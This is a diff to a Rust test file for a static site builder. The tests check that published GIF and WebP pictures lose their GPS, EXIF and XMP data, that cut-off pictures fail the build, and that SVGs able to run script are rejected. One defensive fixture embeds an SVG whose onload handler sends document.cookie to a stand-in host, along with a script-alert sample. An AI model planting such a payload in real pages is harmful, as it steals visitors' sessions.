@@ -1,5 +1,6 @@
 //! Pictures through a real build (`samtal::build` into a folder): no published picture keeps
-//! its EXIF (GPS), and a build encodes only the pictures the build before did not make.
+//! its EXIF (GPS) or XMP, GIF included; an SVG that could run script and a cut-off picture
+//! are errors naming their files; a build encodes only the pictures the build before did not make.
 
 mod common;
 
@@ -12,7 +13,54 @@ fn has(haystack: &[u8], needle: &[u8]) -> bool {
 }
 
 fn is_picture(path: &str) -> bool {
-    [".jpg", ".png", ".webp"].iter().any(|ext| path.ends_with(ext))
+    [".jpg", ".png", ".webp", ".gif"].iter().any(|ext| path.ends_with(ext))
+}
+
+/// A 4 × 2 GIF of two frames carrying XMP with a GPS position and a comment, as phones'
+/// and editors' GIFs do.
+fn gif_with_xmp_and_a_comment() -> Vec<u8> {
+    let mut plain = Vec::new();
+    {
+        let mut encoder = gif::Encoder::new(&mut plain, 4, 2, &[255, 0, 0, 0, 0, 255]).unwrap();
+        encoder.set_repeat(gif::Repeat::Infinite).unwrap();
+        for index in [0, 1] {
+            encoder.write_frame(&gif::Frame::from_indexed_pixels(4, 2, vec![index; 8], None)).unwrap();
+        }
+    }
+    let xmp = b"<x:xmpmeta xmlns:x='adobe:ns:meta/'><exif:GPSLatitude>59,20N</exif:GPSLatitude></x:xmpmeta>";
+    let mut blocks = [&[0x21, 0xFE, 5][..], b"Anna\0", &[0], &[0x21, 0xFF, 11], b"XMP DataXMP", xmp, &[1]].concat();
+    blocks.extend((1..=255u8).rev());
+    blocks.extend_from_slice(&[0, 0]);
+    // After the header and the global colour table of two colours.
+    [&plain[..19], &blocks, &plain[19..]].concat()
+}
+
+/// An animated WebP of two 2 × 2 frames with EXIF (a GPS position) and XMP chunks.
+fn animated_webp_with_exif_and_xmp() -> Vec<u8> {
+    let chunk = |id: &[u8], payload: &[u8]| {
+        let pad: &[u8] = if payload.len() % 2 == 1 { &[0] } else { &[] };
+        [id, &u32::try_from(payload.len()).unwrap().to_le_bytes(), payload, pad].concat()
+    };
+    let frame = |rgb: [u8; 3]| {
+        let webp = webp::Encoder::from_rgb(&rgb.repeat(4), 2, 2).encode_lossless().to_vec();
+        let size = u32::from_le_bytes(webp[16..20].try_into().unwrap()) as usize;
+        let header = [0, 0, 0, 0, 0, 0, 1, 0, 0, 1, 0, 0, 100, 0, 0, 0];
+        chunk(b"ANMF", &[&header[..], &chunk(b"VP8L", &webp[20..20 + size])].concat())
+    };
+    let exif = fs::read(common::repo().join("tests/sites/images/static/bilder/foto.jpg")).unwrap();
+    let tiff_at = exif.windows(6).position(|w| w == b"Exif\0\0").unwrap() + 6;
+    let tiff_len = usize::from(u16::from_be_bytes([exif[tiff_at - 8], exif[tiff_at - 7]])) - 8;
+    let body = [
+        &b"WEBP"[..],
+        &chunk(b"VP8X", &[0x02 | 0x08 | 0x04, 0, 0, 0, 1, 0, 0, 1, 0, 0]),
+        &chunk(b"ANIM", &[0; 6]),
+        &frame([255, 0, 0]),
+        &frame([0, 0, 255]),
+        &chunk(b"EXIF", &exif[tiff_at..tiff_at + tiff_len]),
+        &chunk(b"XMP ", b"<x:xmpmeta xmlns:x='adobe:ns:meta/'/>"),
+    ]
+    .concat();
+    [&b"RIFF"[..], &u32::try_from(body.len()).unwrap().to_le_bytes(), &body].concat()
 }
 
 fn build_into(root: &Path, out: &Path) -> samtal::SiteBuild {
@@ -62,10 +110,30 @@ fn an_independent_exif_reader_finds_no_gps_exif_or_xmp_in_any_published_picture(
     let read = |bytes: &[u8]| exif::Reader::new().read_from_container(&mut std::io::Cursor::new(bytes));
     let fields = read(&source).expect("the fixture's photo has EXIF");
     assert!(fields.fields().any(|f| f.tag.context() == exif::Context::Gps), "and a GPS position");
+    // A moving GIF and a moving WebP, each with XMP (and the WebP with the photo's EXIF).
+    let webp = animated_webp_with_exif_and_xmp();
+    let webp_exif = read(&webp).expect("the moving WebP has EXIF");
+    assert!(webp_exif.fields().any(|f| f.tag.context() == exif::Context::Gps), "with a GPS position");
+    common::write_bytes(site.path(), "static/bilder/rorlig.webp", &webp);
+    let gif = gif_with_xmp_and_a_comment();
+    let decoder = gif::DecodeOptions::new().read_info(std::io::Cursor::new(&gif)).unwrap();
+    assert!(decoder.xmp_metadata().is_some(), "the GIF has XMP");
+    common::write_bytes(site.path(), "static/bilder/rorlig.gif", &gif);
     let out = site.path().join("ut");
     build_into(site.path(), &out);
     let pictures: Vec<(String, Vec<u8>)> = read_tree(&out).into_iter().filter(|(path, _)| is_picture(path)).collect();
-    assert!(pictures.len() >= 10, "{} pictures", pictures.len());
+    assert!(pictures.len() >= 12, "{} pictures", pictures.len());
+    let published = |name: &str| &pictures.iter().find(|(p, _)| p.ends_with(name)).unwrap().1;
+    let mut decoder = gif::DecodeOptions::new().read_info(std::io::Cursor::new(published("rorlig.gif"))).unwrap();
+    assert_eq!(decoder.xmp_metadata(), None, "the published GIF has no XMP");
+    let mut frames = 0;
+    while decoder.read_next_frame().unwrap().is_some() {
+        frames += 1;
+    }
+    assert_eq!(frames, 2, "and both its frames");
+    use image::AnimationDecoder as _;
+    let decoder = image::codecs::webp::WebPDecoder::new(std::io::Cursor::new(published("rorlig.webp"))).unwrap();
+    assert_eq!(decoder.into_frames().collect_frames().unwrap().len(), 2, "the WebP still moves");
     for (path, bytes) in &pictures {
         match read(bytes) {
             Ok(exif) => {
@@ -76,7 +144,8 @@ fn an_independent_exif_reader_finds_no_gps_exif_or_xmp_in_any_published_picture(
             Err(exif::Error::NotFound(_)) => {}
             Err(e) => panic!("{path}: the reader fails: {e}"),
         }
-        assert!(!has(bytes, b"http://ns.adobe.com/xap/") && !has(bytes, b"<x:xmpmeta"), "{path} keeps XMP");
+        assert!(!has(bytes, b"http://ns.adobe.com/xap/") && !has(bytes, b"xmpmeta"), "{path} keeps XMP");
+        assert!(!has(bytes, b"XMP DataXMP") && !has(bytes, b"Anna\0"), "{path} keeps XMP or a comment");
     }
 }
 
@@ -132,4 +201,48 @@ fn a_picture_as_an_attachment_is_listed_with_the_size_it_is_published_at() {
         data.contains(&format!("\"bytes\": {published}")) || data.contains(&format!("\"bytes\":{published}")),
         "{data}"
     );
+}
+
+#[test]
+fn an_svg_that_could_run_script_is_an_error_at_its_line_and_never_published() {
+    // Guards: an SVG in static/ or beside a meeting was copied as it was, so its script ran
+    // for anyone who opened the picture by its address (on the site's own origin).
+    let site = fixture_site("images");
+    let root = site.path();
+    let svg = "<svg xmlns=\"http://www.w3.org/2000/svg\">\n  <rect width=\"9\" height=\"9\"\n        onload=\"fetch('//x.example/'+document.cookie)\"/>\n</svg>\n";
+    common::write(root, "static/bilder/logga.svg", svg);
+    let meeting = fs::read_to_string(root.join("content/meetings/2018-09-orebro.md")).unwrap();
+    fs::remove_file(root.join("content/meetings/2018-09-orebro.md")).unwrap();
+    common::write(root, "content/meetings/2018-09-orebro/index.md", &format!("{meeting}\n![Diagram](diagram.svg)\n"));
+    let diagram = "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>";
+    common::write(root, "content/meetings/2018-09-orebro/diagram.svg", diagram);
+    let out = root.join("ut");
+    let output = common::samtal().arg("--root").arg(root).args(["build", "--output"]).arg(&out).output().unwrap();
+    let text = String::from_utf8_lossy(&output.stderr).to_string() + &String::from_utf8_lossy(&output.stdout);
+    assert_eq!(output.status.code(), Some(1), "{text}");
+    assert!(text.contains("static/bilder/logga.svg:3:9"), "the file, line and column: {text}");
+    assert!(text.contains("SVG-bilden har attributet `onload`"), "{text}");
+    assert!(text.contains("spara om bilden utan skript"), "and how to fix it: {text}");
+    assert!(text.contains("content/meetings/2018-09-orebro/diagram.svg:1:"), "{text}");
+    assert!(text.contains("SVG-bilden innehåller ett skript (`<script>`)"), "{text}");
+    assert!(!out.exists(), "nothing published");
+}
+
+#[test]
+fn a_cut_off_gif_or_png_is_an_error_naming_it_and_nothing_is_published() {
+    // Guards: a GIF cut off in its transfer was published half (as far as it went).
+    for (name, bytes) in [("rorlig.gif", gif_with_xmp_and_a_comment()), ("karta.png", fs::read(common::repo().join("tests/sites/images/static/bilder/karta.png")).unwrap())] {
+        let site = fixture_site("images");
+        let cut = &bytes[..bytes.len() * 2 / 3];
+        common::write_bytes(site.path(), &format!("static/bilder/{name}"), cut);
+        let out = site.path().join("ut");
+        let result = samtal::build(&samtal::Options { output: Some(out.clone()), ..options(site.path()) });
+        let Err(samtal::Error::Invalid { diagnostics, .. }) = result else { panic!("{name}: the build must fail") };
+        let named: Vec<&samtal::diagnostic::Diagnostic> = diagnostics.iter().filter(|d| d.file == format!("static/bilder/{name}")).collect();
+        assert!(
+            named.iter().any(|d| matches!(d.problem, samtal::diagnostic::Problem::PictureUnreadable { damaged: true })),
+            "{name}: {diagnostics:?}"
+        );
+        assert!(!out.exists(), "{name}: nothing published");
+    }
 }
